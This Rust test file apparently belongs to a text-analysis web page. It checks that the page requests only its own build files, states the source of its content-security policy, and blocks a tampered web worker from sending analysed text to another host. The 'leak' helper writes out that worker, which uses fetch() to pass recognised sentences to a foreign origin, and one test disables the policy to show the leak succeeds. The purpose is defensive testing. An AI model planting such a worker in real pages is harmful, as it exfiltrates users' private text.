//! No text leaves the page: what the policy lets through, and what the host is asked.

use std::collections::BTreeSet;
use std::path::Path;
use std::sync::Arc;

use namelight_tests::{Fault, Page, Request, Site, View, figure, visit};
use serde_json::json;

/// The address that browsers report to what a policy forbids.
const REPORTS: &str = "/reports";

/// Uses what the page offers, with names that would show up in any request that had them.
async fn use_every_feature(page: &Page, downloads: &Path) {
    page.until_ready().await;
    page.analyse("Amara Lindqvist met Zoë Šimůnková in Tromsø. Write to amara@example.org.")
        .await;
    page.click_through("#highlights mark").await;
    page.until(
        "return document.querySelector('#details .shares') !== null",
        "the details are there",
    )
    .await;
    page.run::<()>("document.getElementById('show-tokens').click()", json!([]))
        .await;
    page.download_to(downloads).await;
    page.click("#export").await;
    page.click("[aria-label='Download JSON']").await;
    page.click("#export").await;
    page.run::<()>("document.getElementById('mask').click()", json!([]))
        .await;
    page.until(
        "return document.getElementById('masked') !== null",
        "the text is masked",
    )
    .await;
    page.run::<()>("document.getElementById('mask').click()", json!([]))
        .await;
    page.run::<()>("document.getElementById('settings').open = true", json!([]))
        .await;
    page.select("#model", "base").await;
    page.until_model("base").await;
    page.until_analysed().await;
    page.paste(&"Tomás Falk went to Porto with Amara.\n".repeat(1500))
        .await;
    page.until_analysed().await;
    page.go_to_view("#report").await;
    page.until(
        "return document.querySelector('#epochs') !== null",
        "the report",
    )
    .await;
    page.go_to_view("#measure").await;
    page.go_to_view("#analyse").await;
    page.reload().await;
    page.until_ready().await;
    page.until_analysed().await;
    page.click("#forget").await;
}

/// Addresses of all files of the built site, and of the page itself.
fn built(site: &Site) -> BTreeSet<String> {
    fn walk(folder: &Path, at: &str, found: &mut BTreeSet<String>) {
        for entry in std::fs::read_dir(folder).unwrap() {
            let entry = entry.unwrap();
            let path = format!("{at}{}", entry.file_name().into_string().unwrap());
            if entry.path().is_dir() {
                walk(&entry.path(), &format!("{path}/"), found);
            } else {
                found.insert(path);
            }
        }
    }
    let mut found = BTreeSet::from([site.url()]);
    walk(&Site::folder(), &site.url(), &mut found);
    found
}

#[tokio::test(flavor = "multi_thread")]
async fn the_page_asks_its_host_for_files_of_the_build_and_breaks_no_policy() {
    let site = Arc::new(Site::serve_with_reports(REPORTS).await);
    let downloads = tempfile::tempdir().unwrap();
    let folder = downloads.path().to_owned();
    let requests = visit("quiet", &site, View::WIDE, move |page| async move {
        use_every_feature(&page, &folder).await;
        assert_eq!(page.complaints().await, [""; 0]);
    })
    .await;
    let mut built = built(&site);
    // It is there for people who look what the page is made of.
    assert!(built.remove(&format!("{}sbom.json", site.url())));
    let asked = site.asked();
    assert!(asked.len() > built.len() / 3, "{asked:?}");
    figure("page.requests", asked.len());
    let mut queries = 0;
    for line in asked {
        let mut words = line.split(' ');
        let (method, path) = (words.next().unwrap(), words.next().unwrap());
        queries += path.split_once('?').map_or(0, |(_, query)| query.len());
        let address = format!("{}{path}", site.origin());
        // Browsers ask for this one by themselves where a page has no icon yet.
        let is_icon = path == "/favicon.ico";
        assert!(
            method == "GET" && (built.contains(&address) || is_icon),
            "{line}"
        );
    }
    let own = site.origin();
    let made_here = |request: &&Request| request.initiator.as_ref() == Some(&own);
    for request in requests.iter().filter(made_here) {
        assert_eq!(request.origin(), own, "{request:?}");
    }
    // All were GETs, which have no body.
    figure("page.bytes_leaked", queries);
}

#[tokio::test(flavor = "multi_thread")]
async fn the_page_says_where_its_policy_came_from() {
    let (with, without) = (Site::serve_with_own_headers().await, Site::serve().await);
    for (name, site, place) in [
        ("policy-headers", &with, "came in the page’s headers"),
        ("policy-page", &without, "stands in the page itself"),
    ] {
        visit(name, site, View::WIDE, move |page| async move {
            // Not even the service worker changes what came.
            let kept = "return document.getElementById('offline')?.textContent.length > 0";
            page.until(kept, "the service worker is in charge").await;
            page.go_to_view("#measure").await;
            let told = format!(
                "return document.getElementById('policy')?.textContent.includes('{place}')"
            );
            page.until(&told, "it is told").await;
        })
        .await;
    }
}

/// A worker that tries to send what it gets to another host, and says so.
fn leak(other: &Site) -> String {
    format!(
        "addEventListener('message', event => {{
            const text = JSON.stringify(event.data.task?.recognize?.sentences);
            if (text) fetch('{}/leak?' + encodeURIComponent(text), {{ mode: 'no-cors' }}).catch(() => {{}});
        }});",
        other.origin()
    )
}

/// How many bytes of text the other host was sent.
fn leaked(other: &Site) -> usize {
    let asked = other.asked();
    let texts = asked
        .iter()
        .filter_map(|line| line.strip_prefix("GET /leak?"));
    texts.map(str::len).sum()
}

async fn type_with_a_leaking_worker(name: &'static str, site: &Site, other: &Site) {
    let leak = leak(other);
    visit(name, site, View::WIDE, move |page| async move {
        page.reload_spoilt(&leak).await;
        page.until_ready().await;
        assert_eq!(page.analyse("Anna lives in Oslo").await.len(), 2);
        // A request on its way has time to arrive.
        tokio::time::sleep(std::time::Duration::from_secs(1)).await;
    })
    .await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_worker_that_sends_text_to_another_host_is_stopped_by_the_policy() {
    let other = Site::serve().await;
    let with_headers = Site::serve_with_reports(REPORTS).await;
    type_with_a_leaking_worker("leak-headers", &with_headers, &other).await;
    assert_eq!(leaked(&other), 0, "{:?}", other.asked());
    let reported = |line: &String| line.starts_with("POST /reports");
    assert!(with_headers.asked().iter().any(reported));
    let without_headers = Site::serve().await;
    type_with_a_leaking_worker("leak-no-headers", &without_headers, &other).await;
    assert_eq!(leaked(&other), 0, "{:?}", other.asked());
    figure("page.leaks_tried", 2);
    figure("page.bytes_leaked", leaked(&other));
}

#[tokio::test(flavor = "multi_thread")]
async fn without_a_policy_the_same_worker_would_send_text() {
    let other = Site::serve().await;
    let site = Site::serve().await;
    let page = String::from_utf8(Site::file("index.html")).unwrap();
    let page = page.replacen("Content-Security-Policy", "No-Policy", 1);
    site.damage("", Fault::Replaced(page.into_bytes()));
    type_with_a_leaking_worker("leak-no-policy", &site, &other).await;
    assert!(leaked(&other) > 0, "{:?}", other.asked());
}
